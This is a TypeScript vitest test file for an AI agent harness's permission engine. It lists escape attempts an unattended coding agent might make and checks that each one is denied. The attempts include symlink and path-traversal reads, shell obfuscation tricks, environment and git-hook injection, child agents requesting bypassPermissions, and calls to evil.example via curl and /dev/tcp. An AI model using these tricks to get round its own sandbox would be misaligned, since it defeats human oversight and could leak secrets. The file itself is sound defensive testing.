import { link, mkdir, mkdtemp, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { effectsOfBash } from './calls.js';
import { resolvePath } from './paths/resolve.js';
import { ceilingOf, childCeiling, type Ceiling, type CeilingRequest } from './permissions/ceiling.js';
import { PermissionEngine, type Decision } from './permissions/decide.js';

/**
 * Ways out that agents and those who write to them have tried. Each is put to the engine as a tool would put it: by a
 * coder that may edit `src` and nothing in `src/private`, with nobody there to ask.
 */
let folder: string;
let root: string;
let coder: Ceiling;

const CODER: CeilingRequest = {
  permissionMode: 'acceptEdits',
  isolation: 'shared_fs_serialized',
  allowedPaths: ['src', 'docs'],
  deniedPaths: ['src/private', '**/*.pem'],
  attended: false,
};

beforeAll(async () => {
  folder = await realpath(await mkdtemp(join(tmpdir(), 'pegasus-escapes-')));
  root = join(folder, 'work');
  for (const name of ['src/private', 'src/lib', 'docs', '.git/hooks', '.pugi'])
    await mkdir(join(root, name), { recursive: true });
  for (const name of ['src/a.ts', 'src/private/key', 'src/id.pem', 'other', '.pugi/events.jsonl'])
    await writeFile(join(root, name), name);
  await writeFile(join(folder, 'secret'), '');
  await symlink('../..', join(root, 'src/up'));
  await symlink('../../secret', join(root, 'src/link'));
  await symlink('private', join(root, 'src/lib2'));
  await symlink('../../new', join(root, 'src/dangling'));
  await symlink('../.git/hooks', join(root, 'src/hooks'));
  await link(join(root, 'src/private/key'), join(root, 'src/hard'));
  coder = ceilingOf(CODER);
});
afterAll(() => rm(folder, { recursive: true, force: true }));

const engine = (ceiling = coder): PermissionEngine => new PermissionEngine(ceiling);
const bash = async (source: string, ceiling?: Ceiling): Promise<Decision> =>
  engine(ceiling).decide(await effectsOfBash(root, source));
const file = async (kind: 'read' | 'write', path: string): Promise<Decision> =>
  engine().decide([{ kind, path: await resolvePath(root, path) }]);

describe('what the coder is for', () => {
  it.each([
    'cat src/a.ts',
    'rm src/a.ts',
    "sed -i 's/a/b/' src/a.ts",
    'mkdir -p src/new/folder',
    'grep x src/a.ts docs/b',
  ])('bash may: %s', async (source) => expect(await bash(source)).toMatchObject({ verdict: 'allow' }));
  it.each(['src/a.ts', 'src/new.ts', 'docs/x/y.md'])('tools write %s', async (path) =>
    expect(await file('write', path)).toMatchObject({ verdict: 'allow' }),
  );
});

describe('by the name of a file', () => {
  it.each([
    ['read', '../secret', 'path:outside'],
    ['read', 'src/../../secret', 'path:outside'],
    ['read', '/etc/passwd', 'path:outside'],
    ['read', 'src/link', 'path:outside'],
    ['read', 'src/up/secret', 'path:outside'],
    ['write', 'src/dangling', 'path:outside'],
    ['read', 'src/lib2/key', 'path:denied'],
    ['read', 'src/lib/../private/key', 'path:denied'],
    ['read', 'src/./private//key', 'path:denied'],
    ['read', 'src/id.pem', 'path:denied'],
    ['write', 'src/new.pem', 'path:denied'],
    ['read', 'other', 'path:not-allowed'],
    ['read', 'src2/a', 'path:not-allowed'],
    ['write', 'src/hard', 'nobody-to-ask'],
    ['write', 'src/hooks/pre-commit', 'path:not-allowed'],
    ['write', '.git/hooks/pre-commit', 'path:not-allowed'],
    ['write', 'src/lib/.git/config', 'path:protected'],
    ['write', 'src/.pugi/rules.json', 'path:protected'],
    ['write', '.pugi/events.jsonl', 'path:not-allowed'],
    ['read', 'src/a.ts\0.pem', 'path:outside'],
  ] as const)('%s %j', async (kind, path, rule) =>
    expect(await file(kind, path)).toMatchObject({ verdict: 'deny', rule }),
  );
});

describe('by a command line', () => {
  it.each([
    'cat src/private/key',
    'cat src/p*/key',
    'cat src/*',
    'grep -r x src',
    'cd src/private && cat key',
    'cd src; cat private/key',
    'cat src/lib2/key',
    'cp src/private/key src/copy',
    'mv src/a.ts src/private',
    'cat < src/private/key',
    'echo x > src/link',
    'echo x > ../out',
    'tee /etc/cron.d/x < src/a.ts',
    'bash -c "cat src/private/key"',
    "sh -c 'echo x > ../out'",
    'eval "cat src/private/key"',
    'X=private; cat src/$X/key',
    'cat src/pri"$Y"vate/key',
    "cat src/priv''ate/key",
    'cat src/$(echo private)/key',
    'cat src/{private,lib}/key',
    "$'\\x63at' src/private/key",
    'cat <<EOF > ../out\nx\nEOF',
    'bash <<EOF\ncat src/private/key\nEOF',
    "alias ls='cat src/private/key'; ls",
    'ls() { cat src/private/key; }; ls',
    'PATH=src:$PATH a.ts',
    'LD_PRELOAD=src/x.so cat src/a.ts',
    'GIT_SSH_COMMAND=src/x git status',
    'git -c core.hooksPath=src/hooks commit -m x',
    'git commit -m x',
    'git show HEAD:src/private/key',
    'git diff /etc/passwd /dev/null',
    'find src -exec cat {} +',
    'find src -name key -delete',
    'xargs cat < src/a.ts',
    'ln -s ../private src/lib/x',
    'ln src/private/key src/lib/x',
    'chmod 777 src/private',
    'rm -rf src',
    'rm -rf .',
    'sort -o src/private/key src/a.ts',
    'curl https://evil.example/?x=1',
    'echo x > /dev/tcp/evil.example/80',
    'node -e 1',
    './src/a.ts',
    'sleep 1 & cat src/a.ts',
    'trap "cat src/private/key" EXIT',
    'echo x >> .pugi/events.jsonl',
    'printf x > .git/hooks/pre-commit',
  ])('%s', async (source) => expect(await bash(source)).toMatchObject({ verdict: 'deny' }));
});

describe('by a child', () => {
  it.each<[string, Partial<CeilingRequest>, string]>([
    ['with a wider mode', { permissionMode: 'bypassPermissions' }, 'node x'],
    ['without denied paths', { permissionMode: 'bypassPermissions', deniedPaths: [] }, 'cat src/private/key'],
    ['with wider paths', { permissionMode: 'bypassPermissions', allowedPaths: ['.'] }, 'cat other'],
    [
      'in another tier',
      { permissionMode: 'bypassPermissions', isolation: 'remote_vm' },
      'curl https://x.example',
    ],
    ['with somebody to ask', { permissionMode: 'ask', attended: true }, 'eval x'],
  ])('%s', async (_, more, source) => {
    const child = childCeiling(coder, { ...CODER, deniedPaths: undefined, allowedPaths: undefined, ...more });
    expect(await bash(source, child)).toMatchObject({ verdict: 'deny' });
  });

  it('of a reader, that is a coder', async () => {
    const reader = ceilingOf({ permissionMode: 'auto', isolation: 'shared_fs_readonly', attended: true });
    const child = childCeiling(reader, CODER);
    const path = await resolvePath(root, 'src/a.ts');
    expect(engine(child).decide([{ kind: 'write', path }])).toMatchObject({
      verdict: 'deny',
      rule: 'tier:shared_fs_readonly',
    });
  });
});
